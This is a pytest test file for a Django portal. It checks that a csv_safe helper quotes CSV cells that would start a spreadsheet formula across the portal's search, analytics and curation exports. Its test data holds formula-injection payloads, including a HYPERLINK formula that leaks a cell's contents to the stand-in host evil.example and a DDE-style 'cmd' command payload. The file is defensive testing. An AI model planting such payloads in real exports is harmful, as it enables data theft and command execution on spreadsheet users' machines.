"""No cell of any CSV the portal writes starts a spreadsheet formula: not with an ASCII sign, nor a
full-width one (＝ ＋ － ＠, which spreadsheet programs read as = + - @), nor a sign behind a tab, a
carriage return or leading white space. One rule (search.web.csv_export.csv_safe) guards the search
export, the search analytics export and the curators' reports (barrier register, review dates)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse

from search.web.csv_export import csv_safe
from tests.factories import make_barrier, make_case_study, make_pioneer

pytestmark = pytest.mark.django_db

HYPERLINK = '＝HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    HYPERLINK,
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(A1:A9)",
    "﹦1+1",  # small equals sign, another compatibility form of =
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000＝1+1",  # ideographic space, then a full-width sign
    "\t",
    "\rtext",
]
HARMLESS = ["", "Plain words", "1+1=2", "e-mail", "A&E = accident and emergency", "'quoted", "２０１５", "café"]


def first_significant(cell: str) -> str:
    return cell.lstrip()[:1]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_quoted(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_left_as_they_are(value):
    assert csv_safe(value) == value


def test_values_that_are_not_text():
    assert (csv_safe(None), csv_safe(-3), csv_safe(12)) == ("", "'-3", "12")


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_guarded(table: list[list[str]], planted: list[str]) -> None:
    """Each planted value is in the file, quoted; no cell anywhere starts a formula."""
    cells = [cell for row in table for cell in row]
    for value in planted:
        assert "'" + value in cells, f"{value!r} missing or not quoted"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell
        assert first_significant(cell) not in {"=", "+", "@", "＝", "＋", "＠"}, cell


@pytest.fixture
def hostile_titles(db):
    pioneer = make_pioneer("Formula Town")
    study = make_case_study(pioneer, HYPERLINK, summary=" =1+1 in the summary", review_by=date.today() - timedelta(1))
    make_barrier(study, "＠SUM(A1:A9) barrier", description="\t=cmd")
    return [HYPERLINK, " =1+1 in the summary", "＠SUM(A1:A9) barrier"]


def test_the_search_export(client, hostile_titles, settings):
    settings.ELASTICSEARCH_URL = ""
    assert_guarded(rows(client.get("/search/export.csv")), hostile_titles)


def test_the_barrier_register_export(admin_client, hostile_titles):
    table = rows(admin_client.get(reverse("barrier_register"), {"export": "csv"}))
    assert_guarded(table, ["＠SUM(A1:A9) barrier", HYPERLINK])  # the barrier, and its case study's title


def test_the_review_date_report_export(admin_client, hostile_titles):
    table = rows(admin_client.get(reverse("curation_past_review_date"), {"export": "csv"}))
    assert_guarded(table, [HYPERLINK])


def test_the_search_analytics_export(admin_client, client, settings, db):
    settings.ELASTICSEARCH_URL = ""
    client.get("/search/", {"q": HYPERLINK})  # recorded in the search log as typed (lower-cased)
    table = rows(admin_client.get(reverse("search_analytics"), {"export": "top_queries", "period": "7"}))
    assert_guarded(table, [HYPERLINK.lower()])
